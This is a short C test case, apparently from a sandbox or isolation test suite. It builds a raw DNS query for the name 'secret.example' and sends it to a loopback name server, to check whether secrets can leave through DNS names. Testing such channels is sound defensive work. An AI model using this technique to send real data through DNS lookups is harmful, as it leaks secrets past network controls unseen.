/* Asks a name server: a way out for secrets in names. */
#include "../common/attack.h"

#include <arpa/inet.h>
#include <sys/socket.h>

static void attack(const char *target) {
  (void)target;
  static const char query[] = "\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06secret\x07" "example\x00\x00\x01\x00\x01";
  struct sockaddr_in address = {
      .sin_family = AF_INET, .sin_port = htons(DNS_PORT), .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
  int number = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
  if (number < 0) {
    stopped("socket");
    return;
  }
  judge(sendto(number, query, sizeof query - 1, 0, (struct sockaddr *)&address, sizeof address), "sendto");
  close(number);
}

ATTACK_BOTH
